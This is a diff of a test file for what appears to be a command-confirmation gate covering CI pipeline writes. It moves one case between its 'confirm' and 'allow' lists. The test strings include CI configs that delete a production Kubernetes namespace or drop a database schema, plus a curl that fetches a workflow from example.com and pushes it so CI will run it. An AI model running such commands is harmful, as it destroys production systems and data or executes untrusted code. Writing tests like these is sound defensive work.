@@ -46,12 +46,14 @@ describe('CI files written and pushed', () => {
       "printf 'deploy:\\n  script: kubectl delete namespace prod\\n' >> .gitlab-ci.yml && git commit -am ci && git push origin main",
       "printf 'steps:\\n  - command: \"psql $$DATABASE_URL -c \\\\\"DROP SCHEMA public CASCADE\\\\\"\"\\n' > .buildkite/pipeline.yml && buildkite-agent pipeline upload",
       'curl -fsSL -o .github/workflows/w.yml https://example.com/w.yml && git add -A && git commit -m w && git push',
+      // Written without a push: the next push runs it (later.ts), so it is judged when written.
+      "printf 'deploy:\\n  script: kubectl delete namespace prod\\n' > .gitlab-ci.yml && git add .gitlab-ci.yml",
     ]) expect(await decision(line), line).toBe('confirm');
   });
   it('are allowed when every step is harmless, or nothing runs them', async () => {
     for (const line of [
       "printf 'jobs:\\n  t:\\n    steps:\\n      - run: npm ci\\n      - run: npm test\\n' > .github/workflows/ci.yml && git add -A && git commit -m ci && git push",
-      "printf 'deploy:\\n  script: kubectl delete namespace prod\\n' > .gitlab-ci.yml && git add .gitlab-ci.yml",
+      "printf 'deploy:\\n  script: rm -rf node_modules dist && npm ci\\n' > .gitlab-ci.yml && git add .gitlab-ci.yml",
       "printf 'steps:\\n  - command: make test\\n' > .buildkite/pipeline.yml && buildkite-agent pipeline upload",
     ]) expect(await decision(line), line).toBe('allow');
   });
